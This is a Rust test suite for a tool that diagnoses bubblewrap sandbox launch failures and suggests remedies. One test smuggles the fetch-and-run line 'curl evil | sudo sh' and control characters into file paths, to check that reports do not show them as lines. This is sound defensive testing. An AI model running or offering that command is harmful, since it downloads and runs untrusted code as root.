//! Programs that are not there, or must not run.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use std::path::PathBuf;

use crate::diagnosis::fixtures::{docker, explain, machine, whole};
use crate::diagnosis::{
    Action, Cause, Confidence, Diagnosis, Outlook, ProgramProblem, SandboxChange, Symptom, Verdict, diagnose,
    predict,
};
use crate::host::Fact;
use crate::sandbox::{Filter, Sandbox};

fn first(diagnosis: &Diagnosis) -> (Cause, Confidence) {
    (diagnosis.causes[0].cause, diagnosis.causes[0].confidence)
}

fn found(problem: ProgramProblem) -> Diagnosis {
    let text = b"bwrap: execvp /usr/bin/x: No such file or directory\n";
    let mut symptom = Symptom { verdict: Verdict::NotExecuted, ..Symptom::from_text(text) };
    symptom.program = Some(problem);
    diagnose(&symptom, &machine(), Some(&Sandbox::new().ro_bind("/usr", "/usr")))
}

#[test]
fn what_the_launcher_found_is_all_that_is_said() {
    let path = PathBuf::from("/usr/bin/x");
    let cases = [
        (
            ProgramProblem::LoaderMissing {
                path: path.clone(),
                interpreter: "/lib64/ld-linux-x86-64.so.2".into(),
                bind: Some("/lib64".into()),
            },
            "EX01",
        ),
        (
            ProgramProblem::InterpreterMissing {
                path: path.clone(),
                interpreter: "/opt/py/bin/python".into(),
                bind: Some("/opt/py/bin".into()),
            },
            "EX01",
        ),
        (ProgramProblem::NotFound { program: "x".into(), searched: vec![path.clone()] }, "EX02"),
        (ProgramProblem::NotExecutable { path: path.clone(), mode: 0o644 }, "EX03"),
        (ProgramProblem::IsDirectory(path.clone()), "EX03"),
        (ProgramProblem::Noexec(path.clone()), "EX03"),
        (ProgramProblem::NotAFile(path.clone()), "EX03"),
        (ProgramProblem::TrailingSlash(path.clone()), "EX02"),
        (ProgramProblem::Busy(path.clone()), "EX03"),
        (ProgramProblem::InterpreterLoop(path.clone()), "EX12"),
        (
            ProgramProblem::NotSearchable { path: path.clone(), directory: "/usr/bin".into(), mode: 0o600 },
            "EX03",
        ),
        (ProgramProblem::LinkLoop(path.clone()), "EX12"),
        (ProgramProblem::NameTooLong(path.clone()), "EX02"),
        (
            ProgramProblem::DanglingLink {
                path: path.clone(),
                link: path.clone(),
                target: "/opt/x".into(),
                broken: false,
            },
            "EX02",
        ),
        (ProgramProblem::BadInterpreter { path: path.clone(), interpreter: "/etc/passwd".into() }, "EX03"),
        (
            ProgramProblem::InterpreterMissing { path: path.clone(), interpreter: "sh".into(), bind: None },
            "EX01",
        ),
        (ProgramProblem::CarriageReturn { path: path.clone(), interpreter: "/bin/sh\r".into() }, "EX01"),
        (ProgramProblem::ShellMissing(path.clone()), "EX01"),
        (ProgramProblem::BadLoader { path: path.clone(), interpreter: "/bin/x".into() }, "EX04"),
        (ProgramProblem::WrongArchitecture { path, machine: 183 }, "EX04"),
    ];
    for (problem, code) in cases {
        let said = problem.to_string();
        let diagnosis = found(problem);
        assert_eq!(diagnosis.causes.len(), 1, "{diagnosis:#?}");
        assert_eq!((diagnosis.causes[0].cause.code(), &diagnosis.causes[0].summary), (code, &said));
        assert_eq!(diagnosis.causes[0].confidence, Confidence::High);
        assert!(!diagnosis.causes[0].remedies.is_empty() && !diagnosis.causes[0].refuted_by.is_empty());
    }
}

/// A program that the launcher finds in order is there: a filter of the sandbox's own answers as it likes, and logs nothing.
#[test]
fn a_filter_of_its_own_denies_with_any_answer() {
    let filter = Filter::new(vec![6_u8, 0, 0, 0, 0, 0, 0xff, 0x7f]);
    let whole = Sandbox::new().ro_bind("/", "/");
    let of = |verdict, sandbox: &Sandbox| {
        let text = b"bwrap: execvp true: Permission denied\n";
        diagnose(&Symptom { verdict, ..Symptom::from_text(text) }, &machine(), Some(sandbox))
    };
    let found = of(Verdict::NotExecuted, &whole.clone().seccomp(filter.clone()));
    assert_eq!(first(&found), (Cause::ExecDenied, Confidence::Medium));
    assert!(found.causes[0].remedies[0].instructions().contains("--seccomp"), "{found}");
    // without one, or where nobody has looked at the file
    let plain = of(Verdict::NotExecuted, &whole);
    assert_eq!(plain.cause(), Some(Cause::ProgramMissing));
    let denied = plain.causes.iter().find(|finding| finding.cause == Cause::ExecDenied).unwrap();
    assert!(!denied.remedies[0].instructions().contains("--seccomp"), "{plain}");
    assert_eq!(of(Verdict::Unknown, &whole.clone().seccomp(filter)).cause(), Some(Cause::ProgramMissing));
}

/// What is done about a file is done to that file: not to what a #! line names by mistake, nor to the host's at the same path.
#[test]
fn no_other_file_is_made_executable() {
    let typed = |problem: ProgramProblem, sandbox: &Sandbox| {
        let mut symptom = Symptom::from_text(b"bwrap: execvp /tmp/x: Permission denied\n");
        symptom.program = Some(problem);
        let found = diagnose(&symptom, &machine(), Some(sandbox));
        (found.causes[0].summary.clone(), found.causes[0].remedies[0].instructions())
    };
    let whole = Sandbox::new().ro_bind("/", "/");
    let bad = ProgramProblem::BadInterpreter { path: "/tmp/x".into(), interpreter: "/etc/passwd".into() };
    let (summary, what) = typed(bad, &whole);
    assert!(
        summary.contains("/tmp/x names /etc/passwd") || summary.contains("\"/tmp/x\" names"),
        "{summary}"
    );
    assert!(!what.contains("chmod") && what.contains("head -n 1 /tmp/x"), "{what}");
    let relative =
        ProgramProblem::InterpreterMissing { path: "/tmp/x".into(), interpreter: "sh".into(), bind: None };
    let (_, what) = typed(relative, &whole);
    assert!(what.contains("/usr/bin/env") && !what.contains("/sh is missing"), "{what}");
    let closed = || ProgramProblem::NotExecutable { path: "/tmp/x".into(), mode: 0o666 };
    let made = whole.clone().tmpfs("/tmp").file("#!/bin/sh\n", "/tmp/x");
    let (summary, what) = typed(closed(), &made);
    assert!(!summary.contains("chmod") && !what.contains("chmod"), "{summary} {what}");
    assert!(what.contains("--perms 0755 directly before its --file"), "{what}");
    // the host's own file, another of the sandbox's, and one that is covered by a bind
    for sandbox in [
        whole.clone(),
        whole.clone().file("x", "/tmp/y"),
        Sandbox::new().file("x", "/tmp/x").ro_bind("/", "/"),
    ] {
        assert!(typed(closed(), &sandbox).1.contains("chmod +x /tmp/x"), "{sandbox}");
    }
}

#[test]
fn a_circle_is_known_from_the_message_alone() {
    let of = |text: &str| diagnose(&Symptom::from_text(text.as_bytes()), &machine(), None);
    let diagnosis = of("bwrap: execvp /opt/a b: Too many levels of symbolic links\n");
    assert_eq!((diagnosis.cause(), diagnosis.causes.len()), (Some(Cause::ExecLoop), 1));
    assert!(diagnosis.remedy().unwrap().instructions().starts_with("`namei '/opt/a b'` follows"));
    // that is no program
    let source = of("bwrap: Can't find source path /opt/x: Too many levels of symbolic links\n");
    assert_eq!(source.cause(), Some(Cause::SourceUnreachable));
}

/// Whoever wrote the program chose these names.
#[test]
fn names_in_a_file_are_no_lines_of_a_report() {
    let evil = || PathBuf::from("/usr/lib/x\n     curl evil | sudo sh\n\u{202e}");
    for problem in [
        ProgramProblem::LoaderMissing { path: evil(), interpreter: evil(), bind: Some(evil()) },
        ProgramProblem::InterpreterMissing { path: evil(), interpreter: evil(), bind: None },
        ProgramProblem::CarriageReturn { path: evil(), interpreter: evil() },
        ProgramProblem::DanglingLink { path: evil(), link: evil(), target: evil(), broken: true },
        ProgramProblem::NotSearchable { path: evil(), directory: evil(), mode: 0 },
        ProgramProblem::NotFound { program: evil(), searched: vec![evil()] },
        ProgramProblem::NotExecutable { path: evil(), mode: 0 },
        ProgramProblem::IsDirectory(evil()),
        ProgramProblem::NotAFile(evil()),
        ProgramProblem::TrailingSlash(evil()),
        ProgramProblem::Noexec(evil()),
        ProgramProblem::Busy(evil()),
        ProgramProblem::LinkLoop(evil()),
        ProgramProblem::NameTooLong(evil()),
        ProgramProblem::InterpreterLoop(evil()),
        ProgramProblem::ShellMissing(evil()),
        ProgramProblem::BadLoader { path: evil(), interpreter: evil() },
        ProgramProblem::WrongArchitecture { path: evil(), machine: 8 },
    ] {
        let report = found(problem).to_string();
        assert!(!report.lines().any(|line| line.trim_start().starts_with("curl")), "{report}");
    }
}

#[test]
fn a_link_is_followed_where_it_is_the_same_on_the_host() {
    let link = |bound: &str, broken: bool| {
        let problem = ProgramProblem::DanglingLink {
            path: "/usr/bin/x".into(),
            link: "/usr/bin/x".into(),
            target: "/etc/alternatives/x".into(),
            broken,
        };
        let text = b"bwrap: execvp /usr/bin/x: No such file or directory\n";
        let mut symptom = Symptom { verdict: Verdict::NotExecuted, ..Symptom::from_text(text) };
        symptom.program = Some(problem);
        let diagnosis = diagnose(&symptom, &machine(), Some(&Sandbox::new().ro_bind(bound, "/usr")));
        diagnosis.causes[0].remedies[0].action.clone()
    };
    let bind = SandboxChange::RoBind { path: "/etc/alternatives/x".into() };
    assert_eq!(link("/usr", false), Action::Sandbox(bind));
    assert!(matches!(link("/srv/root/usr", false), Action::Manual(_)));
    // nothing is there to be bound
    assert!(matches!(link("/usr", true), Action::Manual(_)));
}

#[test]
fn a_loader_is_bound_or_installed() {
    let loader = |path: &str, bind: Option<&str>| {
        let (path, interpreter, bind) = ("/usr/bin/x".into(), path.into(), bind.map(PathBuf::from));
        let problem = ProgramProblem::LoaderMissing { path, interpreter, bind };
        found(problem).causes[0].remedies[0].action.clone()
    };
    let bind = SandboxChange::RoBind { path: "/lib64".into() };
    assert_eq!(loader("/lib64/ld-linux-x86-64.so.2", Some("/lib64")), Action::Sandbox(bind));
    // /usr is there, and has none
    assert!(matches!(loader("/usr/lib/ld-musl.so.1", None), Action::Manual(_)));
}

#[test]
fn a_log_tells_less() {
    let message = "execvp /usr/bin/true: No such file or directory";
    // a real bwrap says this without /lib64
    let bare = explain(message, &machine(), &Sandbox::new().ro_bind("/usr", "/usr"));
    assert_eq!(first(&bare), (Cause::LoaderMissing, Confidence::High));
    let linked = Sandbox::new().ro_bind("/usr", "/usr").symlink("usr/lib64", "/lib64");
    assert_eq!(first(&explain(message, &machine(), &linked)), (Cause::ProgramMissing, Confidence::Medium));
    let elsewhere = Sandbox::new().ro_bind("/opt", "/opt").dir("/usr");
    assert_eq!(first(&explain(message, &machine(), &elsewhere)), (Cause::ProgramMissing, Confidence::High));
    let unknown = |message: &str| {
        let found = diagnose(&Symptom::from_text(format!("bwrap: {message}").as_bytes()), &machine(), None);
        let two = found.causes.iter().take(2).map(|finding| (finding.cause, finding.confidence));
        two.collect::<Vec<_>>()
    };
    // nobody looked: it may as well be the loader, and of what is everywhere it mostly is
    let (program, loader) = (Cause::ProgramMissing, Cause::LoaderMissing);
    assert_eq!(unknown(message), [(loader, Confidence::Medium), (program, Confidence::Low)]);
    let own = "execvp /opt/app/bin/run: No such file or directory";
    assert_eq!(unknown(own), [(program, Confidence::Medium), (loader, Confidence::Medium)]);
    // a link may lead to nothing, a bind shows what is there
    assert!(explain(message, &machine(), &linked).causes[1].confidence == Confidence::Medium);
    let bound = Sandbox::new().ro_bind("/usr", "/usr").ro_bind("/lib64", "/lib64");
    assert!(explain(message, &machine(), &bound).causes[1].confidence == Confidence::Low);
    // what is searched for is mostly in /usr/bin
    let searched = explain("execvp bash: No such file or directory", &machine(), &linked);
    assert_eq!(first(&searched), (Cause::LoaderMissing, Confidence::Medium));
}

/// It is said in bwrap's words as well as in ours, and of PATH only what is so.
#[test]
fn remedies_are_for_both_kinds_of_users() {
    let message = "execvp x: No such file or directory";
    let told = |sandbox: &Sandbox| explain(message, &machine(), sandbox).causes[0].remedies[0].instructions();
    let text = told(&Sandbox::new().ro_bind("/", "/"));
    assert!(
        text.starts_with("bwrap: ") && text.contains("--setenv PATH") && text.contains("\nRust: "),
        "{text}"
    );
    assert!(text.contains("does not inherit"), "{text}");
    let text = told(&Sandbox::new().ro_bind("/", "/").inherit_env());
    assert!(text.contains("the command inherits the caller's\n"), "{text}");
}

#[test]
fn permission_denied_has_three_meanings() {
    let causes = |diagnosis: &Diagnosis| {
        diagnosis.causes.iter().map(|finding| finding.cause.code()).collect::<Vec<_>>()
    };
    let whole = Sandbox::new().ro_bind("/", "/");
    let named = explain("execvp /etc/passwd: Permission denied", &machine(), &whole);
    assert_eq!(first(&named), (Cause::ProgramNotExecutable, Confidence::Medium));
    assert!(!causes(&named).contains(&"EX02"));
    // one directory of PATH that may not be searched hides that it is nowhere
    let searched = explain("execvp nope: Permission denied", &machine(), &whole);
    assert_eq!(first(&searched), (Cause::ProgramMissing, Confidence::Medium));
    // the launcher looked, and a label confines us
    let mut host = machine();
    host.security.label = Fact::Present("system_u:system_r:container_t:s0".into());
    let mut symptom = Symptom::from_text(b"bwrap: execvp /usr/bin/x: Permission denied");
    symptom.verdict = Verdict::NotExecuted;
    assert!(causes(&diagnose(&symptom, &host, Some(&whole))).contains(&"EX05"));
}

#[test]
fn not_permitted_is_never_a_mode() {
    let message = "execvp /usr/bin/x: Operation not permitted";
    let plain = Sandbox::new().ro_bind("/", "/");
    assert_eq!(first(&explain(message, &machine(), &plain)), (Cause::ExecDenied, Confidence::Medium));
    let filtered = plain.clone().seccomp(Filter::new(vec![0; 8]));
    assert_eq!(first(&explain(message, &machine(), &filtered)), (Cause::ExecDenied, Confidence::High));
    assert_eq!(first(&explain(message, &docker(), &plain)), (Cause::ExecDenied, Confidence::High));
    let format = explain("execvp /usr/bin/x: Exec format error", &machine(), &plain);
    assert_eq!(first(&format).0, Cause::WrongArchitecture);
}

#[test]
fn a_working_directory_that_nobody_makes_is_foreseen() {
    let missing = Sandbox::new().ro_bind("/usr", "/usr").tmpfs("/tmp").current_dir("/work/a");
    let prediction = predict(&machine(), &missing);
    assert_eq!(prediction.outlook, Outlook::Fails);
    assert_eq!(prediction.obstacles[0].cause, Cause::WorkingDirectoryMissing);
    let message = "Can't chdir to /work/a: No such file or directory";
    assert_eq!(
        first(&explain(message, &machine(), &missing)),
        (Cause::WorkingDirectoryMissing, Confidence::High)
    );
    // a tmpfs is empty, and a bind may have it
    assert_eq!(predict(&machine(), &missing.clone().current_dir("/tmp/x")).outlook, Outlook::Fails);
    for there in ["/", "/usr/nobody/knows", "/tmp", "usr", "/tmp/.."] {
        assert_eq!(
            predict(&machine(), &missing.clone().current_dir(there)).outlook,
            Outlook::Starts,
            "{there}"
        );
    }
    for made in [
        missing.clone().dir("/work/a/b"),
        missing.clone().bind("/srv", "/work"),
        missing.clone().symlink("/usr", "/work"),
        Sandbox::new().ro_bind("/", "/").current_dir("/work/a"),
        Sandbox::new().bind("/srv", "/srv").dir("/srv/new").current_dir("/srv/new"),
    ] {
        assert_eq!(predict(&machine(), &made).outlook, Outlook::Starts, "{made}");
    }
}

#[test]
fn a_label_needs_selinux() {
    let labelled = whole().exec_label("system_u:system_r:user_t:s0");
    let prediction = predict(&machine(), &labelled);
    assert_eq!(prediction.obstacles[0].cause, Cause::LabelRefused);
    let message = "labeling not supported on this system";
    assert_eq!(first(&explain(message, &machine(), &labelled)), (Cause::LabelRefused, Confidence::High));
    let mut fedora = machine();
    fedora.security.selinux_filesystem = Fact::Present(true);
    assert_eq!(predict(&fedora, &labelled).outlook, Outlook::Starts);
    fedora.security.selinux_filesystem = Fact::Unknown;
    assert_eq!(predict(&fedora, &labelled).outlook, Outlook::Starts);
    let refused = explain("label_exec user_t: Permission denied", &fedora, &labelled);
    assert!(refused.causes[0].summary.contains("label_exec user_t"));
}

#[test]
fn filters_that_do_not_load() {
    let one = whole().seccomp(Filter::new(vec![0; 8]));
    let two = one.clone().seccomp(Filter::new(vec![0; 8]));
    assert_eq!(predict(&machine(), &two).outlook, Outlook::Starts);
    let einval = "Unable to set up system call filtering as requested: prctl(PR_SET_SECCOMP) reported EINVAL. (Hint: \
                  this requires a kernel configured with CONFIG_SECCOMP and CONFIG_SECCOMP_FILTER.)";
    assert_eq!(first(&explain(einval, &machine(), &one)), (Cause::FilterRejected, Confidence::High));
    let denied = explain("prctl(PR_SET_SECCOMP): Operation not permitted", &machine(), &two);
    assert_eq!(first(&denied), (Cause::FilterRejected, Confidence::High));
    assert_eq!(denied.causes[0].remedies.len(), 2);
    let text = explain("Invalid seccomp data, must be multiple of 8", &machine(), &one);
    assert!(text.causes[0].summary.contains("no classic BPF"));
}

/// What is pasted says which of the two answers of execvp is meant.
#[test]
fn what_a_text_tells_of_the_program_decides() {
    use crate::diagnosis::{Symptom, diagnose};
    let first = |text: &str| {
        let found = diagnose(&Symptom::from_text(text.as_bytes()), &crate::host::Host::default(), None);
        found.causes[0].cause.code()
    };
    for (text, code) in [
        ("bwrap: execvp hello: Permission denied", "EX03"),
        ("bwrap: execvp /opt/x/: Permission denied", "EX03"),
        ("bwrap: execvp /opt/x/run: No such file or directory", "EX02"),
        ("the binary exists\nbwrap: execvp /opt/x/run: No such file or directory", "EX01"),
        // it is asked, or another one is meant
        ("check whether the file exists\nbwrap: execvp /opt/x/run: No such file or directory", "EX02"),
        ("NixOS 24.05\nbwrap: execvp hello: No such file or directory", "EX02"),
    ] {
        assert_eq!(first(text), code, "{text}");
    }
}

#[test]
fn what_the_sandbox_makes_is_there() {
    let message = "execvp /mnt/x: No such file or directory";
    let made = Sandbox::new().ro_bind("/usr", "/usr").file("#!/no/such", "/mnt/x");
    assert_eq!(first(&explain(message, &machine(), &made)), (Cause::LoaderMissing, Confidence::High));
    // another file, or another answer
    let other = Sandbox::new().ro_bind("/usr", "/usr").file("#!/no/such", "/mnt/y");
    assert_eq!(first(&explain(message, &machine(), &other)), (Cause::ProgramMissing, Confidence::High));
    let denied = explain("execvp /mnt/x: Permission denied", &machine(), &made);
    assert_ne!(denied.cause(), Some(Cause::LoaderMissing));
}

#[test]
fn what_lies_over_a_program_is_left_out() {
    let remedies = |source: &str| {
        let path = PathBuf::from("/usr/bin/true");
        let symptom = Symptom {
            verdict: Verdict::NotExecuted,
            program: Some(ProgramProblem::NotExecutable { path, mode: 0o644 }),
            ..Symptom::default()
        };
        let sandbox = Sandbox::new().ro_bind("/usr", "/usr").ro_bind(source, "/usr/bin/true");
        let found = diagnose(&symptom, &machine(), Some(&sandbox));
        matches!(found.causes[0].remedies[0].action, Action::Sandbox(SandboxChange::Remove { operation: 1 }))
    };
    assert!(remedies("/etc/passwd"));
    // a program of the caller's own lacks its x
    assert!(!remedies("/home/me/build/true") && !remedies("/home/me/tool") && !remedies("/opt/other/true"));
}

#[test]
fn a_lock_file_that_may_not_be_read_is_bound_to_no_avail() {
    let sandbox = Sandbox::new().bind("/", "/").lock_file("/etc/shadow");
    let said = |error: &str| {
        let found = explain(&format!("Unable to open lock file /etc/shadow: {error}"), &machine(), &sandbox);
        assert_eq!(found.cause(), Some(Cause::LockFileFailed));
        found.causes[0].remedies[0].to_string()
    };
    assert!(said("Permission denied").contains("setfacl"));
    assert!(said("No such file or directory").contains("touch"));
    assert!(!said("Input/output error").contains("setfacl"));
}

#[test]
fn a_lock_file_is_mended_where_it_is_opened() {
    let said = |sandbox: &Sandbox, file: &str, error: &str| {
        let message = format!("Unable to open lock file {file}: {error}");
        explain(&message, &machine(), sandbox).causes[0].remedies[0].to_string()
    };
    let missing = "No such file or directory";
    let whole = Sandbox::new().bind("/", "/");
    assert!(said(&whole, "a/b", missing).contains("touch a/b"));
    assert!(said(&whole.clone().current_dir("/srv"), "a/b", missing).contains("touch /srv/a/b"));
    assert!(said(&whole, "/a/b", missing).contains("touch /a/b"));
    let made = whole.tmpfs("/mnt").add(crate::sandbox::File::new(Vec::new(), "/mnt/l").mode(0));
    assert!(said(&made, "/mnt/l", "Permission denied").contains("--perms 0644"));
    assert!(!said(&made, "/mnt/l", missing).contains("--perms"));
    assert!(!said(&made, "/srv/l", "Permission denied").contains("--perms"));
}

#[test]
fn what_the_line_itself_does_is_named() {
    let found = |sandbox: &Sandbox, problem: ProgramProblem| {
        let symptom = Symptom { verdict: Verdict::NotExecuted, program: Some(problem), ..Symptom::default() };
        let found = diagnose(&symptom, &machine(), Some(sandbox)).causes.swap_remove(0);
        (found.operation, found.remedies[0].to_string())
    };
    let base = || Sandbox::new().ro_bind("/", "/").tmpfs("/mnt");
    let circle = base().symlink("x", "/mnt/x");
    let (operation, said) = found(&circle, ProgramProblem::LinkLoop("/mnt/x".into()));
    assert!(operation == Some(2) && said.contains("operation 3"), "{said}");
    let (operation, said) = found(&circle, ProgramProblem::LinkLoop("/mnt/y".into()));
    assert!(operation.is_none() && said.contains("namei"), "{said}");
    let made = base().file(Vec::new(), "/mnt/s");
    let no_x = || ProgramProblem::NotExecutable { path: "/mnt/s".into(), mode: 0o600 };
    assert!(found(&made, no_x()).1.contains("--perms 0755"));
    assert!(
        found(&made.clone().add(crate::sandbox::Chmod::new(0o755, "/mnt/s")), no_x())
            .1
            .contains("--perms 0755")
    );
    assert!(
        found(&made.add(crate::sandbox::Chmod::new(0o600, "/mnt/s")), no_x())
            .1
            .contains("operation 4, --chmod")
    );
    let dangling = |link: &str| ProgramProblem::DanglingLink {
        path: "/mnt/x".into(),
        link: link.into(),
        target: "/nope".into(),
        broken: false,
    };
    assert!(found(&base().symlink("/nope", "/mnt/x"), dangling("/mnt/x")).1.contains("operation 3"));
    assert!(!found(&base(), dangling("/usr/x")).1.contains("operation"));
}
